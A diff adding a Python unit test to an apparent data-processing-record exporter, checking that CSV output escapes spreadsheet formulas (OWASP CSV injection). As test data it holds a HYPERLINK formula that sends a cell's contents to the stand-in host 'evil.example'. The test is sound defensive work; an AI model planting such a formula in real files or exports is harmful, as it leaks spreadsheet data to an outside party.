@@ -217,3 +217,17 @@ def test_processor_record_exports() -> None:
     assert doc["dpv:hasDataController"]["@type"] == "dpv:DataController"
     assert all(p["dpv:hasDataProcessor"]["@id"] == doc["dpv:hasDataProcessor"]["@id"]
                for p in doc["dct:hasPart"])
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    """A manifest text a spreadsheet would run as a formula is written as text (OWASP)."""
+    data = manifest("vekstly").model_dump(mode="json")
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+    data["purposes"][0]["name"] = {"nb": link, "en": link}
+    data["purposes"][0]["description"] = {"nb": "@SUM(1+1)", "en": "@SUM(1+1)"}
+    record = build_record(Manifest.model_validate(data), "nb")
+    rows = list(csv.DictReader(io.StringIO(to_csv(record), newline="")))
+    assert rows[0]["purpose"] == "'" + link
+    assert rows[0]["purpose_description"] == "'@SUM(1+1)"
+    formula = tuple("=+-@\t\r")
+    assert not [v for row in rows for v in row.values() if v.startswith(formula)]
